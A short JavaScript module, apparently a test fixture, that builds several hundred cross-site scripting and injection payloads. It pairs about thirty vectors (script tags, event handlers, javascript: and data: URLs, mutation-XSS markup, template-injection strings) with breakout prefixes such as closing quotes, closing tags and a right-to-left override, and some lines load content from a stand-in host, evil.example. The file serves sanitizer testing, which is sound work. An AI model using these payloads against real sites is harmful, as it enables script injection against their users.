// Text that would run, or load something, anywhere it is taken for more than text. `PWNED` is what one that
// runs would set.
const RUN = 'window.PWNED=1'
const FAR = '//evil.example/x'

const VECTORS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.PWNED=1</script>">`,
  `<iframe src="javascript:parent.PWNED=1">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<body onload=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<link rel=stylesheet href=${FAR}>`,
  `<img src=${FAR}>`,
  `<style>@import '${FAR}'</style>`,
  `<meta http-equiv=refresh content="0;url=${FAR}">`,
  `<base href=${FAR}>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `{{state.text}}`,
  `wx:if="{{true}}" bind:tap="tap"`,
  `data-action='"back"'`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `<!--<script>${RUN}</script>-->`,
]

/** What is broken out of first. */
const AROUND = ['', '"', "'", '">', "'>", '</text>', '-->', '</script>', ']]>', '\u202E']

/** Each vector behind each way out: some hundreds. */
export const PAYLOADS = AROUND.flatMap((out) => VECTORS.map((vector) => out + vector))
